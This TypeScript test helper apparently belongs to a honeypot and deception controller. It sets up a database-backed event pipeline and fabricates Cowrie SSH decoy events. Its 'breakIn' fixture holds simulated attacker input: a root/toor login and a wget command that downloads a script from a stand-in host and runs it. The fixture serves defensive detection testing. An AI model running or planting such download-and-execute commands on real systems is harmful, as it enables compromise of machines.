import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { alertTables, makeRiskAlerts, makeStateProjector } from '../../../controller/alerts/index.ts'
import { attackerTables, makeAttackerProjector } from '../../../controller/attackers/index.ts'
import { auditTables, makeTouchProjector, ownLooks } from '../../../controller/audit/index.ts'
import { type ControllerConfig, controllerConfig } from '../../../controller/config.ts'
import { condemnedTables, decoyTables, makeDecoyStateProjector } from '../../../controller/decoys/index.ts'
import type { Deps } from '../../../controller/deps.ts'
import { fleetTables } from '../../../controller/fleet/tables.ts'
import { makeHoneyProjector } from '../../../controller/honey/index.ts'
import { personaOriginTables, personaTables } from '../../../controller/personas/tables.ts'
import {
  enforcementProjector,
  makeBlocks,
  makeResponder,
  responseTables,
  unenforcedTables,
} from '../../../controller/response/index.ts'
import { makeRiskProjector, riskTables } from '../../../controller/risk/index.ts'
import { touchWay } from '../../../controller/serve/touch-way.ts'
import { makeSessionProjector, sessionAuditTables, sessionTables } from '../../../controller/sessions/index.ts'
import { blobTables } from '../../../controller/store/blobs.ts'
import { coreTables } from '../../../controller/store/core-tables.ts'
import { openSqlite } from '../../../controller/store/sqlite.ts'
import { makeBus } from '../../../controller/work/bus.ts'
import type { BusEvent } from '../../../controller/work/port.ts'
import { makeRunner } from '../../../controller/work/runner.ts'
import { newId } from '../../../shared/ids.ts'
import { silentLog } from '../../../shared/log.ts'
import { seededRandom } from '../../../shared/random.ts'
import type { DecoyEvent } from '../../../shared/schemas/event.ts'
import { makeHandClock, startMs } from './hand-clock.ts'

type TestLike = { teardown(work: () => unknown): void }

/** The chain from a committed event to a decision and an alert, on a real database in a folder of its own. */
export function makeChain(t: TestLike, overrides: Partial<Record<keyof ControllerConfig, unknown>> = {}) {
  const dataDir = mkdtempSync(join(tmpdir(), 'chain-'))
  const clock = makeHandClock()
  const bus = makeBus()
  const config = controllerConfig.parse({ publicHost: '198.18.0.2', ...overrides })
  const store = openSqlite(join(dataDir, 'marshlight.db'), [
    coreTables,
    blobTables,
    fleetTables,
    personaTables,
    personaOriginTables,
    decoyTables,
    condemnedTables,
    sessionTables,
    sessionAuditTables,
    attackerTables,
    riskTables,
    responseTables,
    unenforcedTables,
    alertTables,
    auditTables,
  ])
  t.teardown(async () => {
    await store.close()
    rmSync(dataDir, { recursive: true, force: true })
  })
  const deps: Deps = { config, dataDir, store, bus, clock, random: seededRandom('chain'), log: silentLog }
  const blocks = makeBlocks({ config, clock, ownAddresses: () => ['198.18.0.3'] })
  const deployed: string[] = []
  const reconfigured: string[] = []
  const responder = makeResponder(deps, blocks, {
    deployOne: async (_sql, segment) => deployed.push(segment),
    reconfigure: async (_sql, decoy) => reconfigured.push(decoy),
  })
  const riskAlerts = makeRiskAlerts(deps)
  const runner = makeRunner(
    [
      makeSessionProjector(ownLooks),
      makeAttackerProjector(),
      makeHoneyProjector(deps),
      makeRiskProjector(deps),
      enforcementProjector,
      makeDecoyStateProjector(),
      makeStateProjector(deps),
      makeTouchProjector(deps, touchWay(deps)),
    ],
    deps,
  )
  const heard: BusEvent[] = []
  for (const name of ['risk-crossed', 'alert', 'blocks-changed', 'plan-changed'] as const)
    bus.on(name, (event) => heard.push(event))

  let number = 0
  async function commit(
    stream: 'events' | 'state' | 'files',
    records: readonly object[],
    agent = agentA,
  ): Promise<void> {
    await store.tx(async (sql) => {
      await sql.run(
        `INSERT INTO streams (agent, stream, epoch, next) VALUES (?, ?, ?, 0) ON CONFLICT DO NOTHING`,
        agent,
        stream,
        epoch,
      )
      const row = await sql.get<{ id: number }>('SELECT id FROM streams WHERE agent = ? AND stream = ?', agent, stream)
      for (const record of records)
        await sql.run(
          'INSERT INTO records (stream_id, number, received_at, body) VALUES (?, ?, ?, ?)',
          row?.id ?? 0,
          number++,
          new Date(clock.now()).toISOString(),
          JSON.stringify(record),
        )
    })
  }
  /** Commits records and lets everything that follows from them happen. */
  async function feed(stream: 'events' | 'state' | 'files', records: readonly object[], agent = agentA): Promise<void> {
    await commit(stream, records, agent)
    await runner.drain()
    await riskAlerts.take()
    await responder.respond()
  }
  return {
    deps,
    store,
    clock,
    bus,
    config,
    blocks,
    responder,
    riskAlerts,
    runner,
    deployed,
    reconfigured,
    heard,
    commit,
    feed,
  }
}

export type Chain = ReturnType<typeof makeChain>
const epoch = newId(startMs)
export const agentA = newId(startMs)
export const decoyA = newId(startMs)
export const decoyB = newId(startMs + 1)
export const persona = newId(startMs)

/** An enrolled appliance with one segment, 198.18.1.0/24. */
export async function enrol(chain: Chain, o: { agent?: string; name?: string; net?: string } = {}): Promise<string> {
  const { agent = agentA, name = 'box-a', net = '198.18.1' } = o
  const site = newId()
  const segment = newId()
  await chain.store.tx(async (sql) => {
    await sql.run('INSERT INTO sites VALUES (?, ?)', site, `site of ${name}`)
    await sql.run(
      'INSERT INTO segments (id, site, name, cidr, gateway) VALUES (?, ?, ?, ?, ?)',
      segment,
      site,
      `net of ${name}`,
      `${net}.0/24`,
      `${net}.1`,
    )
    await sql.run(
      `INSERT INTO agents (id, name, roles, status, enrolled_at) VALUES (?, ?, '["decoys"]', 'enrolled', ?)`,
      agent,
      name,
      new Date(startMs).toISOString(),
    )
    await sql.run(
      'INSERT INTO agent_segments (agent, segment, cidr, address, gateway, dns) VALUES (?, ?, ?, ?, ?, ?)',
      agent,
      segment,
      `${net}.0/24`,
      `${net}.10`,
      `${net}.1`,
      JSON.stringify([`${net}.53`]),
    )
    if (agent !== agentA) return
    await sql.run(
      `INSERT INTO decoys (id, segment, agent, cidr, ip, mac, hostname, persona, persona_version, status, origin, created_at, changed_at, reason)
       VALUES (?, ?, ?, ?, ?, '02:00:00:00:00:01', 'web-07', ?, 1, 'wanted', 'placement', ?, ?, '')`,
      decoyA,
      segment,
      agent,
      `${net}.0/24`,
      `${net}.50`,
      persona,
      new Date(startMs).toISOString(),
      new Date(startMs).toISOString(),
    )
  })
  return segment
}

/** One event of a decoy; `afterMs` from the start. */
export function event(kind: DecoyEvent['kind'], more: Partial<DecoyEvent> = {}, afterMs = 0): DecoyEvent {
  return {
    type: 'event',
    at: new Date(startMs + afterMs).toISOString(),
    decoy: decoyA,
    persona,
    personaVersion: 1,
    revision: 1,
    service: 'cowrie',
    kind,
    session: 'aaaaaaaaaaaa',
    src: { ip: '203.0.113.9', port: 40000 },
    dst: { ip: '198.18.1.50', port: 22 },
    source: `cowrie.${kind}`,
    ...more,
  }
}

/** A break-in: connect, guess, log in, look around, fetch and run. */
export const breakIn = (more: Partial<DecoyEvent> = {}): DecoyEvent[] => [
  event('session.open', more, 0),
  event('client.version', { ...more, clientVersion: 'SSH-2.0-Go' }, 100),
  event('client.kex', { ...more, hassh: 'ec7378c1a92f5a8dde7e8b7a1ddf33d1' }, 110),
  event('login.failed', { ...more, username: 'admin', password: 'admin' }, 200),
  event('login.success', { ...more, username: 'root', password: 'toor' }, 300),
  event('command', { ...more, command: 'uname -a; cat /proc/cpuinfo' }, 400),
  event('command', { ...more, command: 'wget http://198.51.100.7/x.sh -O /tmp/x; chmod 777 /tmp/x; /tmp/x' }, 500),
  event('file.download', { ...more, url: 'http://198.51.100.7/x.sh', sha256: 'ab'.repeat(32), size: 12 }, 600),
  event('session.close', { ...more, durationMs: 700 }, 700),
]
